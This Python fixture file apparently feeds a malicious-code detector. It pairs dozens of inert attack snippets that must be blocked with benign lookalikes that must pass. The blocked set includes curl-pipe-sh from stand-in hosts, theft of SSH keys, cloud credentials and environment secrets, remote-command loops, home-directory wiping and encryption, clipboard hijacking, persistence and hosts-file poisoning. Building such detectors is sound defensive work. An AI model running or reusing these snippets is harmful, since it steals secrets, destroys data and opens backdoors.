"""Kinds of attack in Python, and honest programs that do what looks alike; inert."""

from __future__ import annotations

U = "https://drop.collect.test/u"
R = "https://get.collect.test/i"
RUN = f"curl -s {R} | sh"
IP = "http://45.9.148.7"

FIRES = {
    # names that are put together
    "literal in two pieces": "import os\ngetattr(os, 'sys' 'tem')('id')\n",
    "literal with escapes": "import os\ngetattr(os, '\\x73ystem')('id')\n",
    "name filled in": "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id')\n",
    "name by percent sign": "import os\ngetattr(os, '%stem' % 'sys')('id')\n",
    "names in a dictionary": "n = {'m': 'o' + 's', 'f': 'pop' + 'en'}\ngetattr(__import__(n['m']), n['f'])('id')\n",
    "reversed function": f"import os\nvars(os)[''.join(reversed('metsys'))]('{RUN}')\n",
    "methodcaller": f"import operator, os\noperator.methodcaller('system', '{RUN}')(os)\n",
    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)('{RUN}')\n",
    "table asked by get": f"import os\nvars(os).get('system')('{RUN}')\n",
    "attribute asked by its method": f"import os\nos.__getattribute__('system')('{RUN}')\n",
    "decorator": f"import os\n@os.system\n@lambda f: '{RUN}'\ndef x(): pass\n",
    # steps of an installation
    "step of setup": (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Step(install):\n    def run(self):\n        install.run(self)\n        self.after()\n"
        "    def after(self):\n        subprocess.Popen(['./bin/agent', '--quiet'])\n"
        "setup(name='x', cmdclass={'install': Step})\n"
    ),
    "build step speaks": (
        "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py as B\n"
        f"class Step(B):\n    def run(self):\n        urllib.request.urlopen('{R}')\n        super().run()\n"
        "setup(cmdclass={'build_py': Step})\n"
    ),
    "own interpreter": (
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as r;"
        f'exec(r.urlopen("{R}").read())\'])\n'
    ),
    "installer inside": f"import pip\npip.main(['install', '{R}/x.tar.gz'])\n",
    # objects and files that take secrets in
    "message": (
        "import keyring, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
        "m['To'] = 'a@collect.test'\n"
        "m.set_content(keyring.get_password('login', 'me'))\nsmtplib.SMTP('mx.collect.test').send_message(m)\n"
    ),
    "packed with a list of files": (
        "import ftplib, os, tarfile\nt = tarfile.open('/tmp/s.tgz', 'w:gz')\nfor n in ('.npmrc', '.netrc'):\n"
        "    t.add(os.path.join(os.path.expanduser('~'), n))\nt.close()\n"
        "f = ftplib.FTP('ftp.collect.test')\nf.storbinary('STOR s', open('/tmp/s.tgz', 'rb'))\n"
    ),
    "packed in memory": (
        "import io, pathlib, requests, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n"
        f"    z.write(pathlib.Path.home() / '.aws' / 'credentials')\nrequests.put('{U}', data=b.getvalue())\n"
    ),
    "folder packed": (
        "import os, requests, shutil\nshutil.make_archive('/tmp/b', 'zip', os.path.expanduser('~/.gnupg'))\n"
        f"requests.put('{U}', data=open('/tmp/b.zip', 'rb'))\n"
    ),
    "copied, then sent": (
        "import os, requests, shutil\nshutil.copy(os.path.expanduser('~/.ssh/id_ed25519'), '/tmp/notes')\n"
        f"requests.post('{U}', files={{'f': open('/tmp/notes', 'rb')}})\n"
    ),
    "written, then sent by a tool": (
        "import os, subprocess\nwith open('/tmp/e.txt', 'w') as f:\n    f.write(repr(dict(os.environ)))\n"
        f"subprocess.run(['curl', '-F', 'f=@/tmp/e.txt', '{U}'])\n"
    ),
    "dumped, then sent": (
        "import json, os, requests\nwith open('/tmp/e.json', 'w') as f:\n    json.dump(dict(os.environ), f)\n"
        f"requests.post('{U}', data=open('/tmp/e.json').read())\n"
    ),
    "object of a class": (
        "import os, requests\nclass Box:\n    def __init__(self, d):\n        self.d = d\n    def go(self, to):\n"
        f"        requests.post(to, json=self.d)\nb = Box(dict(os.environ))\nb.go('{U}')\n"
    ),
    "connection kept in an object": (
        "import os, socket\nclass Box:\n    def __init__(self):\n"
        "        self.s = socket.create_connection(('c.test', 80))\n"
        "    def go(self):\n        self.s.sendall(repr(dict(os.environ)).encode())\n"
    ),
    "named lambda": f"import os, requests\nsend = lambda d: requests.post('{U}', json=d)\nsend(dict(os.environ))\n",
    "in a comparison": f"import os, requests\n"
    f"if requests.post('{U}', json=dict(os.environ)).status_code == 200:\n    pass\n",
    "named on the way": f"import os, requests\nif (e := dict(os.environ)):\n    requests.post('{U}', json=e)\n",
    "keys of several owners": (
        "import os, requests\nk = {'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'b': os.environ['GITHUB_TOKEN'],\n"
        f"     'c': os.environ['STRIPE_API_KEY']}}\nrequests.post('{U}', json=k)\n"
    ),
    "log handler": (
        "import logging, logging.handlers, os\n"
        "h = logging.handlers.SysLogHandler(address=('logs.collect.test', 514))\n"
        "log = logging.getLogger('x')\nlog.addHandler(h)\nlog.info('key %s', os.getenv('OPENAI_API_KEY'))\n"
    ),
    "log over http": (
        "import logging.handlers, os\nlog = logging.getLogger()\n"
        "log.addHandler(logging.handlers.HTTPHandler('logs.collect.test', '/l'))\nlog.error(dict(os.environ))\n"
    ),
    "keys of a cloud session": (
        "import boto3, requests\nc = boto3.Session().get_credentials().get_frozen_credentials()\n"
        f"requests.post('{U}', json={{'a': c.access_key, 'b': c.secret_key}})\n"
    ),
    "other endpoint": (
        "import boto3\nk = boto3.Session().get_credentials()\n"
        "s = boto3.client('s3', endpoint_url='https://s3.collect.test')\n"
        "s.put_object(Bucket='b', Key='k', Body=k.secret_key)\n"
    ),
    "machine without a name": f"import requests\nrequests.post('{IP}/u', json={{'notes': open('notes.txt').read()}})\n",
    "connection without a name": (
        "import socket\ns = socket.create_connection(('45.9.148.7', 9000))\ns.sendall(open('notes.txt', 'rb').read())\n"
    ),
    "clipboard changed": (
        "import pyperclip, re\nwhile True:\n    if re.match('bc1', pyperclip.paste()):\n"
        "        pyperclip.copy('bc1qexample')\n"
    ),
    # machine code
    "memory that runs": "import mmap\np = mmap.mmap(-1, 99, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n",
    "jump to a buffer": (
        "import ctypes\nb = ctypes.create_string_buffer(open('a.bin', 'rb').read())\n"
        "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(b))()\n"
    ),
    "memory of windows": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n",
    "library downloaded": (
        f"import ctypes, urllib.request\nd = urllib.request.urlopen('{R}').read()\n"
        "open('/tmp/a.so', 'wb').write(d)\nctypes.CDLL('/tmp/a.so')\n"
    ),
    # days and watchers
    "day of removal": (
        "import datetime, shutil\nif datetime.date.today() >= datetime.date(2031, 1, 15):\n    shutil.rmtree('data')\n"
    ),
    "day in a function": (
        "import os, time\nDAY = 1893456000\ndef work():\n    os.system('./next.sh')\nif time.time() > DAY:\n"
        "    work()\n"
    ),
    "year": "import datetime, subprocess\nif datetime.datetime.now().year >= 2031:\n    subprocess.run(['./next'])\n",
    "sleeps until": "import datetime, sys\nif datetime.date.today() < datetime.date(2031, 1, 1):\n"
    "    sys.exit(0)\nprint(1)\n",
    "slow run": "import sys, time\nt = time.perf_counter()\nsum(range(9**7))\nif time.perf_counter() - t > 2:\n"
    "    sys.exit(0)\n",
    "sleep cut short": (
        "import time\nt = time.time()\ntime.sleep(1)\nelapsed = time.time() - t\nif elapsed < 0.9:\n"
        "    raise SystemExit\n"
    ),
    "few processors": "import os, sys\nif os.cpu_count() < 2:\n    sys.exit()\n",
    "home emptied": (
        "import pathlib, shutil\nfor p in pathlib.Path.home().iterdir():\n"
        "    shutil.rmtree(p) if p.is_dir() else p.unlink()\n"
    ),
    "home walked": (
        "import os\nfor r, d, fs in os.walk(os.environ['HOME']):\n    for f in fs:\n"
        "        os.remove(os.path.join(r, f))\n"
    ),
    "home in a comprehension": "import os, pathlib\n[os.remove(p) for p in pathlib.Path.home().rglob('*')]\n",
    "home encrypted": (
        "import os, pathlib\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
        "for r, d, fs in os.walk(os.path.expanduser('~')):\n    for n in fs:\n        p = pathlib.Path(r) / n\n"
        "        p.write_bytes(k.encrypt(p.read_bytes()))\n"
    ),
    # orders from elsewhere
    "orders asked for": (
        f"import requests, subprocess\nwhile True:\n    r = requests.get('{R}').json()\n"
        "    subprocess.run(r['cmd'], shell=True)\n"
    ),
    "steps of a fetched configuration": (
        f"import requests, subprocess, yaml\nc = yaml.safe_load(requests.get('{R}').text)\n"
        "for step in c['steps']:\n    subprocess.call(step, shell=True)\n"
    ),
    "orders of a model": (
        "import openai, subprocess\nc = openai.OpenAI(base_url='https://llm.collect.test/v1')\n"
        "m = c.chat.completions.create(model='a', messages=[])\n"
        "subprocess.run(m.choices[0].message.content, shell=True)\n"
    ),
    "orders in a name server": (
        "import dns.resolver, subprocess\nfor a in dns.resolver.resolve('c.collect.test', 'TXT'):\n"
        "    subprocess.run(a.to_text(), shell=True)\n"
    ),
    "orders over a stream": (
        "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('collect.test', 4444)\n"
        "    await asyncio.create_subprocess_shell((await r.readline()).decode())\nasyncio.run(main())\n"
    ),
    "orders by mail": (
        "import imaplib, os\nm = imaplib.IMAP4_SSL('mx.collect.test')\n_, d = m.fetch('1', '(BODY[TEXT])')\n"
        "os.system(d[0][1].decode())\n"
    ),
    "door in a web server": (
        "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/')\ndef x():\n"
        "    return subprocess.getoutput(request.args['c'])\n"
    ),
    "rules evaluated": (
        f"import requests\ndef holds(rule):\n    return eval(rule)\nfor rule in requests.get('{R}').json():\n"
        f"    holds(rule)\n"
    ),
    "file of statements": "eval(compile(open('assets/words.bin').read(), 'x', 'exec'))\n",
    "saved, then run": (
        f"import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('{R}').content)\n"
        f"subprocess.run(['/tmp/x'])\n"
    ),
    "saved, then imported": (
        f"import urllib.request\nurllib.request.urlretrieve('{R}', 'rules_x.py')\nimport rules_x\n"
    ),
    "archive on the path": (
        f"import sys, urllib.request\nurllib.request.urlretrieve('{R}', '/tmp/m.zip')\n"
        f"sys.path.insert(0, '/tmp/m.zip')\n"
    ),
    # programs in texts
    "program in a text": (
        "import pathlib\nCODE = '''import urllib.request\n"
        f"exec(urllib.request.urlopen(\"{R}\").read())\n'''\npathlib.Path('h.py').write_text(CODE)\n"
    ),
    "script in a text": f"open('run.sh', 'w').write('''#!/bin/sh\ncat ~/.ssh/id_rsa | curl -d @- {U}\n''')\n",
    "given to a program": f"import subprocess\nsubprocess.run(['sh'], input='{RUN}', text=True)\n",
    # what stays, and what watches
    "audit hook": (
        "import sys, urllib.request\ndef h(e, a):\n"
        f"    urllib.request.urlopen('{U}', data=repr(a).encode())\nsys.addaudithook(h)\n"
    ),
    "trace": (
        "import socket, sys\ns = socket.create_connection(('collect.test', 80))\ndef t(f, e, a):\n"
        "    s.sendall(repr(f.f_locals).encode())\n    return t\nsys.settrace(t)\n"
    ),
    "input replaced": (
        f"import builtins, requests\nold = builtins.input\ndef ask(p=''):\n    v = old(p)\n"
        f"    requests.post('{U}', data=v)\n"
        "    return v\nbuiltins.input = ask\n"
    ),
    "password question replaced": (
        f"import getpass, requests\nsetattr(getpass, 'getpass', lambda p='': requests.post('{U}', data=p).text)\n"
    ),
    "registry": (
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0,"
        " winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, 'a.exe')\n"
    ),
    "start folder": (
        "import os\np = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start "
        "Menu\\\\Programs\\\\Startup', 'a.bat')\n"
        "open(p, 'w').write('a.exe')\n"
    ),
    "name of a host": "with open('/etc/hosts', 'a') as f:\n    f.write('45.9.148.7 github.com')\n",
}
"""Kind → program that must block."""

QUIET = {
    "table of plain names": "OPS = {'run': 'start', 'get': 'fetch'}\nprint(OPS['run'])\n",
    "attribute by a plain name": "import os\nfor n in ('sep', 'name'):\n    print(getattr(os, n))\n",
    "text over lines": "print('run '\n      'the tests')\n",
    "attribute by a made name": "class A:\n    def go(self, kind):\n        return getattr(self, f'run_{kind}')()\n",
    "setup that reads a version": (
        "from setuptools import setup\nns = {}\nsetup(name='x', version=open('VERSION').read(), packages=['x'])\n"
    ),
    "step that compiles": (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n"
        "class Step(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '--build', '.'])\n"
        "setup(name='x', cmdclass={'build_ext': Step})\n"
    ),
    "module of the interpreter": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pytest', '-q'])\n",
    "message with a report": (
        "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
        "m['To'] = 'team@post.example'\n"
        "m.set_content(open('report.txt').read())\ns = smtplib.SMTP('mx.post.example')\n"
        "s.login('me', os.environ['SMTP_PASSWORD'])\ns.send_message(m)\n"
    ),
    "site packed and sent": (
        "import ftplib, tarfile\nwith tarfile.open('/tmp/s.tgz', 'w:gz') as t:\n    t.add('public')\n"
        "f = ftplib.FTP('ftp.site.example')\nf.storbinary('STOR s', open('/tmp/s.tgz', 'rb'))\n"
    ),
    "environment for a program": (
        "import os, subprocess\nenv = os.environ.copy()\nenv['GIT_TERMINAL_PROMPT'] = '0'\n"
        "subprocess.run(['git', 'push'], env=env)\n"
    ),
    "address from an answer": (
        "import requests, subprocess\nr = requests.get('https://api.video.example/v1/1').json()\n"
        "subprocess.run(['ffmpeg', '-i', r['url'], 'out.mp4'])\n"
    ),
    "downloaded film": (
        "import subprocess, urllib.request\nurllib.request.urlretrieve('https://cdn.video.example/a.mp4', 'a.mp4')\n"
        "subprocess.run(['ffprobe', 'a.mp4'])\n"
    ),
    "answer in a file": (
        "import json, requests\nwith open('cache.json', 'w') as f:\n"
        "    json.dump(requests.get('https://api.example/v1').json(), f)\nprint(json.load(open('cache.json'))['n'])\n"
    ),
    "key in a header": (
        "import os, requests\nKEYS = {'a': os.environ['A_API_KEY'], 'b': os.environ['B_API_KEY'], 'c': "
        "os.environ['C_API_KEY']}\n"
        "def ask(who):\n    return requests.post('https://api.example/v1', headers={'Authorization': "
        "KEYS[who]}, json={})\n"
    ),
    "cloud keys sign": (
        "import boto3, requests\nfrom requests_aws4auth import AWS4Auth\nc = boto3.Session().get_credentials()\n"
        "a = AWS4Auth(c.access_key, c.secret_key, 'eu-west-1', 'es')\n"
        "requests.post('https://search.example/x', auth=a, json={})\n"
    ),
    "local log": (
        "import logging, logging.handlers, os\nlog = logging.getLogger()\n"
        "log.addHandler(logging.handlers.SysLogHandler(address='/dev/log'))\n"
        "log.info('key set: %s', bool(os.getenv('A_KEY')))\n"
    ),
    "machine at home": "import requests\nrequests.post('http://192.168.1.20/api', json={'on': True})\n",
    "own address": "import socket\ns = socket.socket(2, 2)\ns.connect(('8.8.8.8', 80))\nprint(s.getsockname()[0])\n",
    "memory map": "import mmap\nwith open('a.bin', 'rb') as f:\n"
    "    m = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)\n",
    "callback": "import ctypes\ndef seen(a, b):\n    return a - b\n"
    "cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(seen)\n",
    "library": "import ctypes\nlib = ctypes.CDLL('./libsum.so')\nprint(lib.sum(1, 2))\n",
    "age of files": (
        "import os, time\nfor n in os.listdir('cache'):\n    p = os.path.join('cache', n)\n"
        "    if time.time() - os.path.getmtime(p) > 86400:\n        os.remove(p)\n"
    ),
    "dated warning": "import datetime, warnings\nif datetime.date.today() > datetime.date(2031, 1, 1):\n"
    "    warnings.warn('old')\n",
    "time limit": (
        "import sys, time\nstart = time.time()\nwhile True:\n    if time.time() - start > 30:\n"
        "        sys.exit(1)\n    time.sleep(1)\n"
    ),
    "too few processors": "import os, sys\nif os.cpu_count() < 2:\n    sys.exit('this needs two processors')\n",
    "own cache emptied": "import pathlib, shutil\nfor p in pathlib.Path('build').iterdir():\n    shutil.rmtree(p)\n",
    "some files at home": (
        "import pathlib\nfor p in pathlib.Path.home().rglob('*'):\n    if p.suffix == '.pyc':\n        p.unlink()\n"
    ),
    "home listed": "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    print(r, len(fs))\n",
    "formula": "print(eval('1 + 2', {'__builtins__': {}}))\n",
    "model answers text": (
        "import openai\nc = openai.OpenAI()\nm = c.chat.completions.create(model='a', messages=[])\n"
        "print(m.choices[0].message.content)\n"
    ),
    "model asked, person asked": (
        "import openai, subprocess\nm = openai.OpenAI().chat.completions.create(model='a', messages=[])\n"
        "cmd = m.choices[0].message.content\nif input(f'Run {cmd}? ') == 'y':\n    subprocess.run(cmd, shell=True)\n"
    ),
    "server asked for a file": (
        "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/')\ndef x():\n"
        "    return subprocess.run(['pandoc', '-t', 'html', request.args['f']], capture_output=True).stdout\n"
    ),
    "template of a program": (
        "import pathlib\nCODE = '''import json\nprint(json.dumps({\"a\": 1}))\n'''\n"
        "pathlib.Path('h.py').write_text(CODE)\n"
    ),
    "tests give input": "import subprocess\nsubprocess.run(['sort'], input='b\\na\\n', text=True)\n",
    "profile": "import sys\ndef seen(f, e, a):\n    print(f.f_code.co_name)\nsys.setprofile(seen)\n",
    "input in a test": "import builtins\nbuiltins.input = lambda p='': 'y'\n",
    "clipboard filled": "import pyperclip\npyperclip.copy('done')\nprint(pyperclip.paste())\n",
    "registry read": (
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "print(winreg.EnumValue(k, 0))\n"
    ),
    "clean up at the end": (
        "import atexit, subprocess\np = subprocess.Popen(['python3', '-m', 'http.server'])\n"
        "atexit.register(p.terminate)\n"
    ),
}
"""Kind → honest program that must pass."""
